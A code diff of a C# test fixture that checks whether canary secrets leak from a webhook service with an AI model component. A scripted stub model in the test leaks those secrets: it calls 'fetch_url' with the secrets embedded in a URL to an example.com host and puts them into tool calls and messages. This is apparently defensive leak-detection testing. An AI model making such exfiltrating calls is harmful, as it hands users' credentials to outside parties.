@@ -1,4 +1,5 @@
 using System.Text.Json;
+using System.Text.Json.Nodes;
 using Aspire.Webhooks.Tests.Stack;
 using Microsoft.AspNetCore.Http;
 
@@ -31,16 +32,21 @@ internal sealed class CanaryWorld : IAsyncDisposable
         ("the source's secret in a URL", Uri.EscapeDataString(Services.GitHubSecret)),
     ];
 
-    private static string All => string.Join(" and ", Secrets.Select(secret => secret.Secret));
+    /// <summary>What must be nowhere.</summary>
+    public static IReadOnlyList<(string Name, string Secret)> All { get; } =
+        [.. Secrets, .. Canaries.Structured.Select(structured => (structured.Structure, structured.Secret))];
+
+    private static string Words => string.Join(" and ", Secrets.Select(secret => secret.Secret))
+        + string.Concat(Canaries.Structured.Select(structured => $"\n\n{structured.Text}\n"));
 
     /// <summary>
     /// A payload with all of them everywhere: in every field that is read, as names, in lists, in sentences, in JSON within.
     /// </summary>
     public static string Payload { get; } = JsonSerializer.Serialize(new
     {
-        action = All,
+        action = Words,
         @ref = $"refs/heads/{Secrets[0].Secret}",
-        issue = new { number = 7, title = $"I lost {All}", body = All,
+        issue = new { number = 7, title = $"I lost {Words}", body = Words,
             labels = Secrets.Select(secret => new { name = secret.Secret }), html_url = $"https://x/?k={Secrets[9].Secret}",
             user = new { login = Secrets[3].Secret } },
         commits = Secrets.Select(
@@ -50,6 +56,9 @@ internal sealed class CanaryWorld : IAsyncDisposable
         names = Secrets.ToDictionary(secret => secret.Secret, secret => 1, StringComparer.Ordinal),
         values = Secrets.ToDictionary(secret => secret.Name, secret => secret.Secret, StringComparer.Ordinal),
         within = JsonSerializer.Serialize(Secrets.Select(secret => new { value = secret.Secret })),
+        texts = Canaries.Structured.Select(structured => structured.Text),
+        documents = Canaries.Structured.Where(structured => structured.Text[0] is '{' or '[')
+            .Select(structured => JsonNode.Parse(structured.Text)),
     });
 
     /// <summary>For processes: the model, and playbooks that make it talk, wait and fail.</summary>
@@ -70,16 +79,16 @@ internal sealed class CanaryWorld : IAsyncDisposable
         var merchant = await MerchantServer.StartAsync(async (request, context) =>
         {
             context.Response.StatusCode = request.Number % 2 == 0 ? 200 : 500;
-            await context.Response.WriteAsync(All);
+            await context.Response.WriteAsync(Words);
         });
 
         // Its lane is slow and stays so: the other one's is quick again after each success.
         var broken = await MerchantServer.StartAsync(async (_, context) =>
         {
             context.Response.StatusCode = 500;
-            await context.Response.WriteAsync(All);
+            await context.Response.WriteAsync(Words);
         });
-        var page = await MerchantServer.StartAsync((_, context) => context.Response.WriteAsync(All));
+        var page = await MerchantServer.StartAsync((_, context) => context.Response.WriteAsync(Words));
         await Tables.AddEndpointAsync(database, "acme", merchant.Url);
         await Tables.AddEndpointAsync(database, "acme", broken.Url);
         var model = await ModelServer.StartAsync(request => Answer(request, new UriBuilder(page.Url) { Host = "localhost" }.Uri));
@@ -98,15 +107,15 @@ internal sealed class CanaryWorld : IAsyncDisposable
     {
         if (request.Said("system").Contains("Instructions of fail.", StringComparison.Ordinal))
         {
-            return new ModelAnswer(All) { Status = 500 };
+            return new ModelAnswer(Words) { Status = 500 };
         }
 
         return request.Results.Count switch
         {
-            0 => new ModelAnswer(All, ("read_event", """{"pointer":"/values"}""")),
+            0 => new ModelAnswer(Words, ("read_event", """{"pointer":"/values"}""")),
             1 => ModelAnswer.Call("fetch_url", new { url = page }),
             2 => new ModelAnswer(null, (Secrets[4].Secret, "{}")),
-            3 => ModelAnswer.Call("fetch_url", new { url = $"https://{Secrets[5].Secret}.example.com/{All}" }),
+            3 => ModelAnswer.Call("fetch_url", new { url = $"https://{Secrets[5].Secret}.example.com/{Words}" }),
             4 => ModelAnswer.Call("read_event", new { pointer = $"/{Secrets[6].Secret}" }),
             5 => ModelAnswer.Call("send_message", new { type = Secrets[8].Secret, data = new { } }),
             6 => ModelAnswer.Call(
@@ -114,7 +123,7 @@ internal sealed class CanaryWorld : IAsyncDisposable
                 new { type = "issue.note",
                 data = Secrets.ToDictionary(
                 secret => secret.Secret, secret => $"It is {secret.Secret}.", StringComparer.Ordinal) }),
-            _ => $"I know {All}.",
+            _ => $"I know {Words}.",
         };
     }
 
